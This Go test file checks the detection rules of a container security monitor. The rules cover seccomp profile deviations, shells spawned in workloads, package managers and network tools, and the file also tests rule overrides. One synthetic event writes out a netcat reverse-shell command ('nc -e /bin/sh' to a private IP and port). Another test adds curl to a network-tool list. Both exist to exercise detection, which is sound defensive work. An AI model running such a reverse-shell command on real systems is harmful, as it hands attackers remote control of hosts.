package watch

import (
	"strings"
	"testing"

	"github.com/sysward/sysward/detector"
)

func TestDefaultRulesCompile(t *testing.T) {
	rs, err := LoadRules(false)
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range rs.Warnings {
		t.Errorf("warning: %v", w)
	}
	for _, r := range rs.Rules {
		if r.Skipped != "" {
			t.Errorf("rule %q skipped: %s", r.Name, r.Skipped)
		}
	}
	if compiled, _, _ := rs.Stats(); compiled < 7 {
		t.Errorf("%d rules compiled", compiled)
	}
}

// TestDefaultRulesMatch runs synthetic events (pure rule logic; the real
// kernel path is in watch_test.go) through the embedded rules.
func TestDefaultRulesMatch(t *testing.T) {
	rs, err := LoadRules(false)
	if err != nil {
		t.Fatal(err)
	}
	var got []*detector.Alert
	eng, err := detector.NewEngine(rs, &detector.EngineOptions{Matching: detector.MatchAll, Hostname: "h",
		Sink: detector.AlertFunc(func(a *detector.Alert) { got = append(got, a) })})
	if err != nil {
		t.Fatal(err)
	}
	base := func(typ string) detector.Event {
		return detector.Event{Type: typ, Workload: "w", Profile: "p.json", Mode: ModeWatch, InProfile: true,
			Proc: detector.ProcInfo{PID: 10, Name: "app", Args: "x", Ancestors: []detector.Ancestor{{Name: "sysward"}}}}
	}
	tests := []struct {
		name     string
		ev       func() detector.Event
		want     string // rule name, "" for none
		priority detector.Priority
		contains string
	}{
		{"in profile", func() detector.Event { return base("read") }, "", 0, ""},
		{"deviation watch", func() detector.Event {
			e := base("ptrace")
			e.InProfile = false
			e.Action = "allow"
			return e
		}, "Syscall outside profile", detector.PriorityWarning, "not enforced (syscall=ptrace workload=w profile=p.json mode=watch process=app"},
		{"deviation complain", func() detector.Event {
			e := base("ptrace")
			e.InProfile, e.Mode, e.Action = false, ModeComplain, "log"
			return e
		}, "Syscall outside profile would be denied", detector.PriorityWarning, "would have been denied"},
		{"deviation denied", func() detector.Event {
			e := base("ptrace")
			e.InProfile, e.Mode, e.Denied, e.Errno, e.Res, e.Action = false, ModeEnforce, true, 1, -1, "errno"
			return e
		}, "Syscall outside profile denied", detector.PriorityCritical, "denied by seccomp (syscall=ptrace errno=1"},
		{"sigsys", func() detector.Event {
			e := base("procexit")
			e.InProfile, e.Denied, e.Action = false, true, "kill"
			return e
		}, "Workload killed by seccomp", detector.PriorityCritical, "SIGSYS"},
		{"entrypoint shell", func() detector.Event {
			e := base("execve")
			e.Proc.Name, e.Entrypoint = "sh", true
			return e
		}, "", 0, ""},
		{"exec'd terminal shell", func() detector.Event {
			e := base("execve")
			e.Proc.Name, e.Proc.TTY, e.Entrypoint = "bash", 34817, true
			e.Proc.Ancestors = []detector.Ancestor{{Name: "runc"}}
			return e
		}, "Terminal shell in workload", detector.PriorityNotice, "with an attached terminal (workload=w shell=bash"},
		{"entrypoint shell script", func() detector.Event {
			e := base("execve")
			e.Proc.Name, e.Interpreter, e.Entrypoint = "entrypoint.sh", "/bin/sh", true
			e.Proc.Ancestors = []detector.Ancestor{{Name: "containerd-shim"}}
			return e
		}, "", 0, ""},
		{"shell under a shell", func() detector.Event {
			e := base("execve")
			e.Proc.Name = "sh"
			e.Proc.Ancestors = []detector.Ancestor{{Name: "sh"}, {Name: "sysward"}}
			return e
		}, "", 0, ""},
		{"shell under a shell script", func() detector.Event {
			e := base("execve")
			e.Proc.Name = "sh"
			e.Proc.Ancestors = []detector.Ancestor{{Name: "run.sh", ExePath: "/usr/bin/dash"}}
			return e
		}, "", 0, ""},
		{"CGI shell script", func() detector.Event {
			e := base("execve")
			e.Proc.Name, e.Proc.ExePath, e.Interpreter = "hello.sh", "/usr/bin/dash", "/bin/sh"
			e.Proc.Ancestors = []detector.Ancestor{{Name: "lighttpd"}}
			return e
		}, "Shell spawned in workload", detector.PriorityNotice, "shell=hello.sh"},
		{"shell renamed", func() detector.Event {
			e := base("execve")
			e.Proc.Name, e.Proc.ExePath = "x", "/usr/bin/bash"
			e.Proc.Ancestors = []detector.Ancestor{{Name: "app"}}
			return e
		}, "Shell spawned in workload", detector.PriorityNotice, "shell=x"},
		{"parent named like a runtime", func() detector.Event {
			e := base("execve")
			e.Proc.Name = "sh"
			e.Proc.Ancestors = []detector.Ancestor{{Name: "runc"}}
			return e
		}, "Shell spawned in workload", detector.PriorityNotice, "parent=runc"},
		{"spawned shell", func() detector.Event {
			e := base("execve")
			e.Proc.Name = "bash"
			e.Proc.Ancestors = []detector.Ancestor{{Name: "app"}, {Name: "sysward"}}
			return e
		}, "Shell spawned in workload", detector.PriorityNotice, "shell=bash"},
		{"package manager", func() detector.Event {
			e := base("execve")
			e.Proc.Name = "apt-get"
			e.Proc.Ancestors = []detector.Ancestor{{Name: "app"}}
			return e
		}, "Package manager launched in workload", detector.PriorityError, "apt-get"},
		{"dpkg under apt", func() detector.Event {
			e := base("execve")
			e.Proc.Name = "dpkg"
			e.Proc.Ancestors = []detector.Ancestor{{Name: "apt-get"}}
			return e
		}, "", 0, ""},
		{"netcat", func() detector.Event {
			e := base("execve")
			e.Proc.Name, e.Proc.Args = "nc", "-e /bin/sh 10.0.0.1 4444"
			return e
		}, "Network tool launched in workload", detector.PriorityNotice, "nc -e /bin/sh"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got = nil
			ev := tt.ev()
			ev.Normalize()
			eng.Process(&ev)
			if tt.want == "" {
				if len(got) != 0 {
					t.Fatalf("unexpected alert %s: %s", got[0].Rule, got[0].Output)
				}
				return
			}
			if len(got) != 1 {
				t.Fatalf("got %d alerts, want one %q", len(got), tt.want)
			}
			a := got[0]
			if a.Rule != tt.want || a.Priority != tt.priority || !strings.Contains(a.Output, tt.contains) {
				t.Fatalf("alert %q %v %q\nwant %q %v containing %q", a.Rule, a.Priority, a.Output, tt.want, tt.priority, tt.contains)
			}
		})
	}
}

func TestRulesOverride(t *testing.T) {
	dir := t.TempDir()
	local := dir + "/local.yaml"
	if err := writeFile(local, `
- rule: Shell spawned in workload
  enabled: false
- list: sysward_network_tool_binaries
  items: [curl]
  append: true
`); err != nil {
		t.Fatal(err)
	}
	rs, err := LoadRules(false, local)
	if err != nil {
		t.Fatal(err)
	}
	if r := rs.Rule("Shell spawned in workload"); r == nil || r.Enabled {
		t.Fatalf("override did not disable the rule: %+v", r)
	}
	if _, err := LoadRules(true); err == nil {
		t.Fatal("no rules at all must be an error")
	}
	if _, err := LoadRules(false, dir+"/missing.yaml"); err == nil || !strings.Contains(err.Error(), "missing.yaml") {
		t.Fatalf("missing file: %v", err)
	}
}
